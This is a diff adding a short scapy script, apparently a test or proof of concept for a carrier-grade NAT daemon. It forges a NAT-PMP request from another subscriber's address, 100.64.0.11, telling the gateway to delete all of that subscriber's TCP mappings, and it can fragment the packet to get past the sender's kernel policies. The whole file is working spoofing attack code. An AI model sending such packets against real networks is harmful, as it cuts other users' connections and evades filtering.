@@ -1,0 +1,18 @@
+#!/usr/bin/python3
+# SPDX-License-Identifier: BSD-3-Clause
+"""A NAT-PMP request past the policies of the sender's kernel: delete all TCP mappings of 100.64.0.11.
+
+usage: ipsec.py whole|fragments
+"""
+
+import sys
+
+from scapy.all import IP, UDP, Ether, Raw, fragment, getmacbyip, sendp
+
+gateway = "100.64.0.1"
+request = bytes([0, 2]) + bytes(10)
+# Longer than it has to be, so that it can be cut. cgnd reads the first twelve octets.
+data = request if sys.argv[1] == "whole" else request + bytes(1000)
+packet = IP(src="100.64.0.11", dst=gateway, id=77) / UDP(sport=4444, dport=5351) / Raw(data)
+pieces = [packet] if sys.argv[1] == "whole" else fragment(packet, fragsize=400)
+sendp([Ether(dst=getmacbyip(gateway)) / p for p in pieces], iface="eth0", verbose=False)
